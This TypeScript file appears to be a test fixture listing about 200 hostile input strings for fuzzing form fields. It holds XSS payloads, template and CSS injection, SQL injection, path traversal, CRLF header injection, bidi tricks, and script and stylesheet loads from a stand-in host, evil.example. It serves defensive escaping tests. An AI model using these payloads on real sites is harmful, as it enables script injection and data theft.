/** 200 things that somebody may have as a name, a text, or any other field: markup, scripts, styles, bidi, sheer length. */
const RUN = 'window.__ran=1';
const TAGS = ['img src=x onerror', 'svg onload', 'body onload', 'iframe onload', 'video src=x onerror', 'audio src=x onerror', 'details open ontoggle', 'input autofocus onfocus', 'select autofocus onfocus', 'textarea autofocus onfocus', 'marquee onstart', 'object data=x onerror', 'embed src=x onload', 'link rel=stylesheet href=x onerror', 'style onload', 'math onclick', 'form onsubmit', 'a href=x onmouseover', 'p onpointerenter', 'button popovertarget=x onbeforetoggle'];
const SCRIPTS = [`<script>${RUN}</script>`, `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `--><script>${RUN}</script>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script src=data:text/javascript,${RUN}></script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`];
const LINKS = [`javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `vbscript:x`, `<a href="javascript:${RUN}" autofocus>x</a>`, `<iframe srcdoc="<script>parent.${RUN}</script>">`, `<form action=javascript:${RUN}><input type=submit autofocus>`];
const TEMPLATES = ['${alert(1)}', '{{constructor.constructor("window.__ran=1")()}}', '#{7*7}', '<%= 7*7 %>', '{{7*7}}', '${7*7}', '[[${7*7}]]', '{%25 7*7 %25}', '<!--?lit$123$-->', '?lit$123$', '<slot></slot>', '<template shadowrootmode=open>x</template>'];
const STYLES = ['<style>*{display:none!important}</style>', '<style>:host{position:fixed;inset:0;z-index:9}</style>', '}body{display:none}', ';color:red;position:fixed', 'expression(1)', 'url(javascript:1)', '@import "//evil.example/x.css";', '<div style="position:fixed;inset:0">', '"><style>*{font-size:999px}</style>', "'/*!important*/"];
const BIDI = ['\u202eSarah', 'abc\u202edef\u202c', '\u2066\u2067\u2068x', '\u200fשרה', '\u061cعلي', 'مرحبا بكم في العيادة', 'שלום עולם', '\u202a\u202b\u202d\u202e', 'a\u0300'.repeat(80), 'Z̸̛̝͔̘͗̈́a̵̩̽l̶̛̫g̷͙̈́o̴̟͝'.repeat(6)];
const SHAPES = ['x'.repeat(500), 'W'.repeat(2_000), ' '.repeat(300), '\n'.repeat(50), 'a\n\n\nb', '\t\t\t', '👩‍👩‍👧‍👦'.repeat(60), '🏴󠁧󠁢󠁥󠁮󠁧󠁿'.repeat(30), '\u0000\u0001\u0002', '\ufeff\u200b\u200c\u200d', '\ud800', '\udc00x', 'İstanbul', 'ß'.repeat(200), '𝕊𝕒𝕣𝕒𝕙', '\u2028\u2029', '&lt;b&gt;', '&#x3C;b&#x3E;', '&amp;amp;', '%3Cscript%3E', '\\x3cscript\\x3e', '\\u003cscript\\u003e', 'null', 'undefined', '[object Object]', 'NaN', '-1', '__proto__', 'constructor', 'toString', "O'Brien", '"quoted"', '`tick`', '\\', '/', '<', '>', '&', "'", '=', '=1+1', "' OR 1=1 --", '../../../etc/passwd', '\r\nSet-Cookie: x=1'];
const QUOTES = ['"', "'", '`', '">', "'>", '`>', '"/>', '--!>', ']]>'];

export const PAYLOADS: string[] = [
  ...TAGS.map((tag) => `<${tag}=${RUN}>`),
  ...TAGS.map((tag) => `"><${tag}="${RUN}"`),
  ...TAGS.map((tag) => `<${tag.toUpperCase()}\n=\n${RUN}>`),
  ...SCRIPTS,
  ...LINKS,
  ...TEMPLATES,
  ...STYLES,
  ...BIDI,
  ...SHAPES,
  ...QUOTES.map((quote) => `${quote}<img src=x onerror=${RUN}>`),
  ...SCRIPTS.map((script) => encodeURIComponent(script)),
  ...SCRIPTS.map((script) => script.replaceAll('<', '＜')),
  ...LINKS.map((link) => ` ${link} `),
  ...QUOTES.map((quote) => `${quote} onfocus=${RUN} autofocus x=${quote}`),
];
